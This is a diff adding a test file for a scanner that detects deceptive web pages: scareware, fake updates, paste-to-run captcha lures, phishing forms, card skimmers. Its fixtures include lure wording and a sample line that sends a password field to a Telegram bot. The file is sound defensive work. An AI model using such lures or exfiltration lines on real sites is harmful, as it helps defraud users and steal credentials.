@@ -1,0 +1,135 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import type { ObservationOf } from '@adsweep/shared/capture/observations/index.ts';
+import { matchingSignatures } from '../../../src/analysis/detectors/deception/malicious-script.ts';
+import { detect } from '../../../src/analysis/detectors/detect.ts';
+import { NO_EVIDENCE } from '../../../src/analysis/evidence/evidence.ts';
+import { documentOf, observed, PAGE, slugsOf } from '../../support/detected.ts';
+
+describe('§2.5.13 harmless pages that share words with deceptive ones', () => {
+  const form = (facts: Partial<ObservationOf<'form'>['facts']>, url = PAGE) =>
+    observed('form', { fields: ['password'], action_url: `${url}/next`, text: 'Sign in', ...facts }, 0, url);
+
+  it('a page whose browser refuses it something is no scareware beside a telephone number', () => {
+    const business = '\nContact us to know more, or call us now: +49 30 5550 1234';
+    for (const refused of [
+      'Notifications have been blocked in your browser.',
+      'Third-party cookies are off: the player is blocked by your browser.',
+      'Ihr Browser blockiert Cookies.\nRufen Sie jetzt unsere Hotline an.',
+    ])
+      assert.deepEqual(slugsOf({ text: refused + business }), [], refused);
+    assert.deepEqual(slugsOf({ text: `Your browser has been locked.${business}` }), ['scareware']);
+    assert.deepEqual(
+      slugsOf({ text: 'Your computer has been locked.\nContact support to know more: +49 30 5550 1234' }),
+      ['scareware'],
+    );
+    assert.deepEqual(
+      slugsOf({ text: 'Your computer has been locked.\nContact us to know more: +49 30 5550 1234' }),
+      [],
+    );
+  });
+
+  it('requirements of a site are no fake_update beside a download', () => {
+    const html = '<a href="/files/form.zip">ダウンロード Download Baixar</a>';
+    for (const text of [
+      '推奨ブラウザ: Google Chrome 最新版、Safari 最新版',
+      'ブラウザの更新ボタンを押さないでお待ちいただけますか。ブラウザの更新ボタン',
+      'Use um navegador atualizado, como Chrome ou Firefox.',
+      'Поддерживаются браузеры Chrome и Safari, обновление от 1 мая',
+      'Desteklenen tarayıcılar, güncellenme tarihi: 1 Mayıs',
+      'De lijst van browsers is bijgewerkt op 1 mei.',
+      'Old versions of Google Chrome for Windows',
+    ])
+      assert.deepEqual(slugsOf({ text, html }), [], text);
+    for (const text of [
+      'お使いのブラウザは最新ではありません。',
+      'ブラウザを更新してください。',
+      'Seu navegador está desatualizado.',
+      'Требуется обновление браузера',
+      'Tarayıcınızı güncelleyin',
+    ])
+      assert.deepEqual(slugsOf({ text, html }), ['fake_update'], text);
+  });
+
+  it('a document to download beside the hint of an old browser is no fake_update', () => {
+    const text = 'Your browser is out of date.';
+    const link = (attributes: string) => slugsOf({ text, html: `<a ${attributes}>Download the brochure</a>` });
+    assert.deepEqual(link('href="/brochure.pdf" download=""'), []);
+    assert.deepEqual(link('href="/get?id=1" download="brochure.pdf"'), []);
+    assert.deepEqual(link('href="/brochure.pdf" download="setup.exe"'), ['fake_update']);
+    assert.deepEqual(link('href="/get?id=1" download=""'), ['fake_update']);
+  });
+
+  it('instructions for a terminal beside a captcha are no paste_to_run', () => {
+    const install = 'Open your terminal and paste this command.';
+    for (const near of ['This site is protected by reCAPTCHA.', 'Solves every captcha: get a key.'])
+      assert.deepEqual(slugsOf({ text: `${install}\n${near}` }), [], near);
+    const run = 'Press Windows + R.\nPress Ctrl + V.\n';
+    assert.deepEqual(slugsOf({ text: `${run}Protected by reCAPTCHA` }), []);
+    assert.deepEqual(slugsOf({ text: `${run}Complete the captcha` }), ['paste_to_run']);
+    assert.deepEqual(slugsOf({ text: `${install}\nThis proves that you are human.` }), ['paste_to_run']);
+  });
+
+  it('what the frame of a captcha service says is not said by the page', () => {
+    const page = documentOf({ text: 'Open your terminal and paste this command.' });
+    const slugs = (url: string) => {
+      const frame = { ...documentOf({ text: "I'm not a robot", url }), frame: 'f' };
+      return detect({ ...NO_EVIDENCE, documents: [page, frame] }).findings.map(({ tag_slug }) => tag_slug);
+    };
+    assert.deepEqual(slugs('https://www.google.com/recaptcha/api2/anchor?k=1'), []);
+    assert.deepEqual(slugs('https://newassets.hcaptcha.com/captcha/v1/1/static/hcaptcha.html'), []);
+    assert.deepEqual(slugs('https://www.google.com.example/recaptcha/api2/anchor'), ['paste_to_run']);
+  });
+
+  it('pages below the own top-level domain of a brand, and its sign-in pages in other clouds, are its own', () => {
+    const found = (brand: string, url: string) =>
+      slugsOf({ title: `Log in to your ${brand} account`, url }, [form({}, url)]).length > 0;
+    for (const [brand = '', url = ''] of [
+      ['DHL', 'https://mydhl.express.dhl/login'],
+      ['Google', 'https://about.google/'],
+      ['Microsoft', 'https://login.microsoftonline.us/common'],
+      ['Microsoft', 'https://m365.cloud.microsoft/'],
+      ['iCloud', 'https://www.icloud.com.cn/'],
+      ['Santander', 'https://www.santanderbank.com/'],
+    ])
+      assert.equal(found(brand, url), false, url);
+    for (const [brand = '', url = ''] of [
+      ['DHL', 'https://express-dhl.example/login'],
+      ['DHL', 'https://login.google/'],
+      ['Microsoft', 'https://microsoft.live/'],
+      ['Apple', 'https://apple.me/'],
+    ])
+      assert.equal(found(brand, url), true, url);
+  });
+
+  it('a form that asks for an account of a messenger as a contact is no phishing_form', () => {
+    const signUp = (text: string) => slugsOf({}, [form({ text })]);
+    assert.deepEqual(signUp('E-mail\nPassword\nTelegram account\nYour LinkedIn account'), []);
+    assert.deepEqual(signUp('Sign in to your Telegram account'), ['phishing_form']);
+    assert.deepEqual(signUp('Your Facebook account will be disabled'), ['phishing_form']);
+    assert.deepEqual(signUp('Your PayPal account'), ['phishing_form']);
+  });
+});
+
+describe('§2.5.13 scripts that contain everything somewhere', () => {
+  const names = (script: string) => matchingSignatures(script).map(({ name }) => name);
+  const filler = ';var borderColor=1'.repeat(400);
+
+  it('a bundle with a picture or a source map in base64 is no skimmer of card numbers', () => {
+    const picture = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>').toString('base64');
+    const map = Buffer.from('{"a":1,"file":"https://shop.example/"}').toString('base64');
+    const pays = 'atob(key);input.name="cvv";location="/checkout";fetch(url)';
+    for (const data of [`"data:image/svg+xml;base64,${picture}"`, `"${map}"`, '"/out?to=aHR0cHM6Ly9zaG9wLmV4YW1wbGUv"'])
+      assert.deepEqual(names(`x=${data};${pays}`), [], data);
+    assert.deepEqual(names(`x="aHR0cHM6Ly9zaG9wLmV4YW1wbGUv";${pays}`), ['a skimmer of card numbers']);
+    assert.deepEqual(names(`x="a|aHR0cHM6Ly9zaG9wLmV4YW1wbGUv".split("|");${pays}`), ['a skimmer of card numbers']);
+  });
+
+  it('a bundle whose contact form writes to a messenger is no thief of passwords', () => {
+    const sends = 'fetch("https://api.telegram.org/bot1:a/sendMessage",{body:phone.value})';
+    const library = 'var inputs={password:!0};';
+    assert.deepEqual(names(library + filler + sends), []);
+    assert.deepEqual(names(sends.replace('phone', 'password') + filler), ['a thief of passwords']);
+    assert.deepEqual(names(`${sends}${filler}${sends.replace('phone', 'password')}`), ['a thief of passwords']);
+  });
+});
